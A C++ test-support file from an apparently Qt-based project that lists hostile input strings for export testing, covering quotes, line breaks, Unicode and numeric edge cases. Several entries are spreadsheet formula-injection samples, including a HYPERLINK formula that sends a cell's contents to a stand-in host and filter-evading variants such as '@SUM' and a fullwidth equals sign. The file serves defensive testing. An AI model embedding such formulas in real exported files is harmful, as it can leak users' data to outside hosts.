// SPDX-License-Identifier: GPL-3.0-or-later
#include "support/hostiletexts.h"

namespace linnet::test {

using namespace Qt::Literals::StringLiterals;

QStringList hostileTexts()
{
    return {
        u"plain"_s,
        u"say \"hi\""_s,
        u"\""_s,
        u"\"\"\""_s,
        u"a,b;c\td"_s,
        u"line\nline"_s,
        u"line\r\nline"_s,
        u"line\rline"_s,
        u"\nbehind a break"_s,
        u" blanks around "_s,
        u"a\0b"_s,
        u"bell\u0007"_s,
        u"Аналитик данных — Санкт-Петербург, ё"_s,
        u"smile \U0001F600 family \U0001F468\u200D\U0001F469\u200D\U0001F467"_s,
        u"\uFEFFmark first"_s,
        u"mark \uFEFFinside"_s,
        QString(40'000, u'я'),
        u"007"_s,
        u"12345678901234567890"_s,
        u"1-2"_s,
        u"MAR1"_s,
        u"TRUE"_s,
        u"null"_s,
        u"=HYPERLINK(\"http://example.org/?\"&A1,\"press\")"_s,
        u"+7 999 123-45-67"_s,
        u"-5"_s,
        u"- item one\n- item two"_s,
        u"@SUM(A1)"_s,
        u"\uFF1D1+1"_s,
        u"\t=1"_s,
        u"  =1+1"_s,
        u"\0=1"_s,
        u"it's"_s,
        u"'quoted"_s,
        u"http://example.org/?a=1&b=2"_s,
        u"<b>&amp;</b>"_s,
        u"_x0041_"_s,
        u"\u2028separator"_s,
    };
}

} // namespace linnet::test
